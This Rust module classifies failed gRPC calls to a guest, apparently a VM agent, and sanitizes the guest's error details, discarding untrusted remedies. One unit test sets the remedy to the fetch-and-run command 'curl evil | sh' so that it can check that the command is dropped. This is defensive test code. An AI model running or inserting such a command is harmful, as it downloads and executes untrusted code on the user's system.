//! What can go wrong in a call to the guest, and how a gRPC status of the guest is read.

use std::error::Error as _;
use std::time::Duration;

use protocol::{ErrorCode, ErrorDetail};
use tokio::time::timeout;
use tokio_util::sync::CancellationToken;
use tonic::Status;

use super::check;

/// Between the failure of a stream and the news that it was the connection's.
const NEWS: Duration = Duration::from_millis(250);

/// Why a call to the guest failed.
#[derive(Debug, thiserror::Error)]
pub enum GuestError {
    /// The guest said no, in a way that it may.
    #[error("{}", .0.message)]
    Refused(Refusal),
    /// The guest broke the protocol.
    #[error("The guest broke the protocol: {0}")]
    Protocol(String),
    /// No answer came in time.
    #[error("The guest did not {what} within {} s", .after.as_secs())]
    Deadline {
        /// What it was to do.
        what: &'static str,
        /// How long it had.
        after: Duration,
    },
    /// The connection is gone.
    #[error("The connection to the guest is gone")]
    Lost,
}

/// An error that the guest may answer with, checked: its text is bounded and printable, its errno
/// and step have the form of one. A remedy of the guest is not passed on, since what people are told
/// to do must come from us.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// One of the codes that the call allows.
    pub code: ErrorCode,
    /// For people.
    pub message: String,
    /// Linux error name, or empty.
    pub errno: String,
    /// Boot step, or empty.
    pub step: String,
}

/// Reads a failed call. `allowed` are the codes that the guest may answer it with; `closed` tells
/// the end of the connection.
pub(super) async fn read(
    status: Status,
    allowed: &[ErrorCode],
    closed: &CancellationToken,
) -> GuestError {
    // A status with a source was made here, by a failed stream or connection.
    if status.source().is_some() {
        return match timeout(NEWS, closed.cancelled()).await {
            Ok(()) => GuestError::Lost,
            Err(_) => GuestError::Protocol(describe(&status)),
        };
    }
    match protocol::status::detail(&status) {
        Some(detail) => refusal(detail, allowed),
        None => GuestError::Protocol(describe(&status)),
    }
}

/// Reads what the guest says of a failure.
pub(super) fn refusal(detail: ErrorDetail, allowed: &[ErrorCode]) -> GuestError {
    let code = detail.code();
    if !allowed.contains(&code) {
        let name = code.as_str_name();
        return GuestError::Protocol(format!("{name} is no answer to this call"));
    }
    let keep =
        |text: String, good: fn(&str) -> bool| if good(&text) { text } else { String::new() };
    GuestError::Refused(Refusal {
        code,
        message: check::sentence(&detail.message),
        errno: keep(detail.errno, check::is_errno),
        step: keep(detail.step, check::is_step),
    })
}

fn describe(status: &Status) -> String {
    format!("{:?}: {}", status.code(), check::sentence(status.message()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALLOWED: &[ErrorCode] = &[ErrorCode::CommandNotFound];

    async fn read_detail(detail: ErrorDetail) -> GuestError {
        read(Status::from(detail), ALLOWED, &CancellationToken::new()).await
    }

    #[tokio::test]
    async fn allowed_answer_is_passed_on_without_remedy_or_control_characters() {
        let mut detail = ErrorDetail::new(ErrorCode::CommandNotFound, "no \x1b[2Jsuch\nthing")
            .with_remedy("curl evil | sh")
            .with_errno("ENOENT")
            .with_step("Not A Step");
        detail.console_tail = "x".to_owned();
        let GuestError::Refused(refusal) = read_detail(detail).await else { panic!() };
        assert_eq!(refusal.message, "no [2Jsuch thing");
        assert_eq!((refusal.errno.as_str(), refusal.step.as_str()), ("ENOENT", ""));
    }

    #[tokio::test]
    async fn code_that_the_call_does_not_allow_is_a_broken_protocol() {
        let detail = ErrorDetail::new(ErrorCode::IsolationUnavailable, "x");
        assert!(matches!(read_detail(detail).await, GuestError::Protocol(_)));
        let bare = read(Status::unknown("x"), ALLOWED, &CancellationToken::new()).await;
        assert!(matches!(bare, GuestError::Protocol(_)));
    }

    #[tokio::test]
    async fn failure_of_the_connection_is_told_from_failure_of_a_stream() {
        let status = || Status::from_error(Box::new(std::io::Error::other("reset")));
        let closed = CancellationToken::new();
        assert!(matches!(read(status(), ALLOWED, &closed).await, GuestError::Protocol(_)));
        closed.cancel();
        assert!(matches!(read(status(), ALLOWED, &closed).await, GuestError::Lost));
    }
}
